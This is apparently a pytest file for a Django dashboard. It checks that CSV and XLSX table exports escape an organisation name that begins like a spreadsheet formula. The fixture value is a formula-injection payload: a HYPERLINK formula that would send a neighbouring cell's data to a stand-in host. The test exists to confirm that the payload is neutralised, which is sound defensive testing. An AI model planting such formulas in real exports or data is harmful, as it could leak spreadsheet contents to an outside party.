"""Dashboard tables are opened in spreadsheets: a label that starts like a formula (here a
recruitment agency named like one) is text in the CSV and in the XLSX."""

import csv
import io

import pytest
from openpyxl import load_workbook

from corridor.accounts.models import Organisation, OrganisationType
from corridor.accounts.roles import Role
from corridor.accounts.tests.factories import member
from corridor.insights.refresh import refresh_summaries
from corridor.insights.tests import dataset

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://example.invalid/?d="&B2,"open")'


@pytest.fixture
def staff():
    data = dataset.build()
    Organisation.objects.filter(type=OrganisationType.RECRUITER).update(name=NAME)
    refresh_summaries()
    return member(Role.MANAGER, data.centre)


def test_a_label_that_starts_like_a_formula_is_escaped_in_the_csv(client, staff):
    client.force_login(staff)

    response = client.get("/insights/tables/fees.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["'" + NAME]


@pytest.mark.parametrize("url", ["/insights/tables/fees.xlsx", "/insights/dashboard.xlsx"])
def test_a_label_that_starts_like_a_formula_is_text_in_the_xlsx(client, staff, url):
    client.force_login(staff)

    response = client.get(url)

    sheet = load_workbook(io.BytesIO(response.content))["fees"]
    cell = sheet.cell(row=2, column=1)
    assert (cell.value, cell.data_type) == (NAME, "s")
